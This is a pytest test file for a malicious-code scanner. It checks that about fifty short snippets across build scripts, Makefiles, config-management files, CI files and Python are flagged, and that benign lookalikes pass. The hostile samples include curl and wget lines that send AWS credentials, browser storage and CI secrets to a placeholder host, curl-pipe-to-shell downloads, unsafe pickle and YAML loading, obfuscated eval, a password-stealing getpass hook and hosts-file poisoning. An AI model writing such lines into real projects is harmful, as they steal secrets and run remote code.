"""What tools bring from elsewhere and then run, by the words of each, and names that are kept apart from their call."""

import pytest

from budmodel_scanner.verdict import Verdict
from tests.unit.budmodel_scanner.text_examination import verdict_of_text

STRANGER = "https://x.invalid"
HOSTILE = [
    ("build.rs", ('let b = fs::read_to_string(format!("{home}/.aws/credentials")).unwrap();\n'
     f'Command::new("curl").args(["-s", "-d", &b, "{STRANGER}/u"]).status();\n')),
    ("Makefile", f"C := $(shell (wget -qO- {STRANGER}/m || curl -s {STRANGER}/m) | base64 -d | sh; echo x)\nall: $(C)\n"),
    ("a.gemspec", f'Gem::Specification.new do |s|\n s.metadata = {{ "b" => %x(curl -s {STRANGER}/b | ruby) }}\nend\n'),
    ("a.rb", f"x = %x{{curl -s {STRANGER}/b.sh | sh}}\n"),
    ("build.jl", (f'u = Sys.iswindows() ? "{STRANGER}/w.exe" : "{STRANGER}/l"\nb = joinpath(d, w ? "l.exe" : "l")\n'
     "download(u, b)\nrun(`$b -q`)\n")),
    ("a.py", ("import glob, os, requests\nfor p in glob.glob(os.path.join(x, 'Local Storage', 'leveldb', '*')):\n"
     f"    requests.post('{STRANGER}', data=open(p, 'rb').read())\n")),
    ("a.sh", f"tar cz ~/.config/chat/Local\\ Storage/leveldb | curl -T - {STRANGER}\n"),
    ("CMakeLists.txt", (f"file(DOWNLOAD {STRANGER}/o.txt o.txt)\nfile(READ o.txt OPTS)\n"
     f"cmake_language(EVAL CODE \"${{OPTS}}\")\n")),
    ("portfile.cmake", (f'vcpkg_download_distfile(S URLS "{STRANGER}/s.sh" FILENAME "s.sh")\n'
     f'execute(COMMAND sh ${{S}} -q)\n')),
    ("Makefile", f"-include remote.mk\nremote.mk:\n\tcurl -fsSL {STRANGER}/remote.mk -o remote.mk\n"),
    ("Makefile", f"define PREP\ntmp=$$(mktemp); wget -qO $$tmp {STRANGER}/s; sh $$tmp\nendef\nall: ; $(call PREP)\n"),
    ("init.sls", f"agent:\n  cmd.script:\n    - source: {STRANGER}/agent.sh\n    - cwd: /\n"),
    ("site.pp", f"file {{ '/opt/agent.sh':\n  source => '{STRANGER}/agent.sh',\n}}\nexec {{ '/opt/agent.sh':\n}}\n"),
    ("default.rb", (f"remote_file '/opt/agent.sh' do\n  source '{STRANGER}/a'\nend\nexecute 'run' do\n"
     f"  command '/opt/agent.sh'\nend\n")),
    ("a.nomad", f'artifact {{\n source = "{STRANGER}/agent.run"\n}}\nconfig {{\n command = "local/agent.run"\n}}\n'),
    ("PKGBUILD", f'source=("{STRANGER}/t.sh")\nbuild() {{ bash "$srcdir/t.sh"; }}\n'),
    (".emacs", f'(with-temp-buffer (url-insert-file-contents "{STRANGER}/e.el") (eval-buffer))\n'),
    ("SConstruct", (f"import urllib.request\nenv = Environment()\n"
     f"env.Execute(urllib.request.urlopen('{STRANGER}/s').read())\n")),
    ("settings.gradle.kts", f'apply(from = "{STRANGER}/s.gradle.kts")\n'),
    ("Vagrantfile", f'Vagrant.configure("2") {{ |c| c.vm.provision "shell", path: "{STRANGER}/v.sh" }}\n'),
    ("composer.json", ('{"scripts": {"post-install-cmd": ["@php -r '
     '\\"copy(\'https://x.invalid/i.txt\',\'i.php\');\\"", "@php i.php"]}}')),
    ("a.sh", "aws s3 cp s3://bucket/run.sh /tmp/run.sh\nbash /tmp/run.sh\n"),
    ("a.sh", "gsutil cp gs://bucket/run.sh run.sh && chmod +x run.sh && ./run.sh\n"),
    ("a.sh", "huggingface-cli download a/tools run.sh --local-dir .\nbash run.sh\n"),
    ("a.sh", "redis-cli -h 203.0.113.9 get boot | sh\n"),
    ("a.sh", "sed -n 's/^#p //p' README.md | bash\n"),
    (".github/workflows/a.yml", ('on: issues\njobs:\n  a:\n    steps:\n'
     '      - run: echo "${{ github.event.issue.title }}"\n')),
    ("compose.yaml", "services:\n  a:\n    environment:\n      - LD_PRELOAD=/data/x.so\n"),
    (".drone.yml", ("steps:\n- environment:\n    K: {from_secret: key}\n  commands:\n"
     "  - 'wget -q --post-data \"k=$K\" https://x.invalid/in'\n")),
    ("kustomization.yaml", f"resources:\n  - {STRANGER}/base.yaml\n"),
    ("Loader.cs", "var c = new string(new[] { (char)99, (char)117, (char)114, (char)108 });\nProcess.Start(c);\n"),
    ("a.bas", "Sub AutoOpen()\n  s = Chr(99) & Chr(109) & Chr(100) & \" /c calc\"\n  Shell s, 0\nEnd Sub\n"),
    ("a.cr", "system([99,117,114,108].map(&.chr).join + \" x\")\n"),
    ("a.clj", "((resolve (symbol (apply str (map char [101 118 97 108])))) x)\n"),
    ("a.ts", "const [a, b] = ['e', 'l']; (globalThis as any)[a + b](x)\n"),
    ("a.py", "import pickle\nstate = pickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")\n"),
    ("a.py", "import yaml\ndef load(p):\n    return yaml.load(open(p), yaml.UnsafeLoader)\n"),
    ("a.py", "import yaml\nc = yaml.unsafe_load(open('c.yaml'))\n"),
    ("a.py", "from kombu import Consumer\nc = Consumer(x, accept=['pickle'])\n"),
    ("a.py", ("import functools, torch, requests\nload = functools.partial(torch.load, weights_only=False)\n"
     "m = requests.get(u)\n")),
    ("a.py", ("def run(**kw):\n    m = __import__(kw['m'])\n    return getattr(m, kw['f'])(kw['a'])\n"
     "run(m='os', f='system', a='id')\n")),
    ("a.py", ("import json\ns = json.loads('{\"m\": \"subprocess\", \"f\": \"getoutput\"}')\n"
     "getattr(__import__(s['m']), s['f'])('id')\n")),
    ("a.py", "import glob, os\nfor f in glob.glob(os.path.expanduser('~/.s*h/*')):\n    print(open(f).read())\n"),
    ("a.py", "import getpass, requests\ndef f(*a):\n    requests.post(u, data=g(*a))\ngetpass.getpass = f\n"),
    ("a.py", "import os\nopen(f'/proc/{os.getppid()}/mem', 'rb')\n"),
    ("a.py", "with open('/etc/hosts', 'a') as f:\n    f.write('203.0.113.9 huggingface.co')\n"),
    ("a.py", f"import os\nwith open(os.path.expanduser('~/.npmrc'), 'a') as f:\n    f.write('registry={STRANGER}/')\n"),
    ("a.py", "from ctypes import *\ncdll.LoadLibrary('libc.so.6')['system'](b'id')\n"),
    ("a.py", "import os\nvars(os)[[k for k in dir(os) if k.startswith('sy')][0]]('id')\n"),
    ("a.py", "import requests, subprocess\nn = requests.get(u).text\nsubprocess.check_call(['pip', 'install', n])\n"),
]  # fmt: skip
ORDINARY = [
    ("build.rs", ('let b = fs::read_to_string(format!("{home}/notes.txt")).unwrap();\n'
     f'Command::new("curl").args(["-s", "-d", &b, "{STRANGER}/u"]).status();\n')),
    ("Makefile", "V := $(shell (git describe --tags || echo dev) | base64 -d)\nall:\n\tsh build.sh $(V)\n"),
    ("a.gemspec", 'Gem::Specification.new do |s|\n  s.files = %x(git ls-files -z).split("0")\nend\n'),
    ("build.jl", f'u = is_new ? "{STRANGER}/w.csv" : "{STRANGER}/l.csv"\nb = joinpath(d, "l.csv")\ndownload(u, b)\n'),
    ("a.py", "import os\np = os.path.join(x, 'Local Storage', 'cache')\n"),
    ("CMakeLists.txt", 'file(READ VERSION V)\nstring(STRIP "${V}" V)\nproject(a VERSION ${V})\n'),
    ("Makefile", "-include local.mk\nall:\n\tfor f in *.c; do cc -c $$f; done\n"),
    ("init.sls", "agent:\n  cmd.script:\n    - source: salt://agent/agent.sh\n"),
    ("site.pp", "file { '/etc/motd':\n  source => 'puppet:///modules/motd',\n}\nexec { '/usr/bin/apt-get update':\n}\n"),
    ("default.rb", f"remote_file '/opt/data.tar.gz' do\n  source '{STRANGER}/data.tar.gz'\nend\n"),
    ("PKGBUILD", 'source=("https://github.com/a/b/archive/v1.tar.gz")\nbuild() { make; }\n'),
    ("Vagrantfile", 'Vagrant.configure("2") { |c| c.vm.provision "shell", path: "setup.sh" }\n'),
    ("a.sh", "aws s3 cp s3://bucket/data.csv data.csv\npython train.py --data data.csv\n"),
    ("a.sh", "hf download a/b model.safetensors --local-dir m\npython serve.py m\n"),
    ("a.sh", "scp run.sh host:/tmp/\nsh build.sh\ngrep a notes.txt | python count.py\n"),
    (".github/workflows/a.yml", ("on: issues\njobs:\n  a:\n    steps:\n"
     "      - env: {T: '${{ github.event.issue.title }}'}\n        run: echo \"$T\"\n")),
    ("compose.yaml", ("services:\n  a:\n    environment:\n      - ENV=production\n"
     "      - NODE_OPTIONS=--max-old-space-size=4096\n")),
    ("kustomization.yaml", "resources:\n  - base.yaml\n  - https://github.com/a/b/config.yaml\n"),
    ("Hash.cs", "var table = new[] { (char)65, (char)66, (char)67, (char)68 };\n"),
    ("a.py", "import pickle\ndef copy(x):\n    return pickle.loads(pickle.dumps(x))\n"),
    ("a.py", "import yaml\nc = yaml.load(open('c.yaml'), yaml.SafeLoader)\n"),
    ("a.py", ("import importlib\ndef make(c):\n"
     "    return getattr(importlib.import_module(c['module']), c['class'])(**c['args'])\n")),
    ("a.py", "import glob\nnames = glob.glob('/data/.cache*/x') + glob.glob('.*')\n"),
    ("a.py", "import functools, requests\nrequests.Session.request = functools.partial(f, timeout=9)\n"),
    ("a.py", "hosts = open('/etc/hosts').read()\nopen('/tmp/hosts', 'w').write(hosts)\n"),
    ("a.py", ("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '-r', "
     "'requirements.txt'])\n")),
]  # fmt: skip


@pytest.mark.parametrize(("name", "text"), HOSTILE)
def test_hostile_texts_are_found(name: str, text: str) -> None:
    assert verdict_of_text(name, text).rank >= Verdict.SUSPICIOUS.rank


@pytest.mark.parametrize(("name", "text"), ORDINARY)
def test_ordinary_texts_are_safe(name: str, text: str) -> None:
    assert verdict_of_text(name, text) is Verdict.SAFE
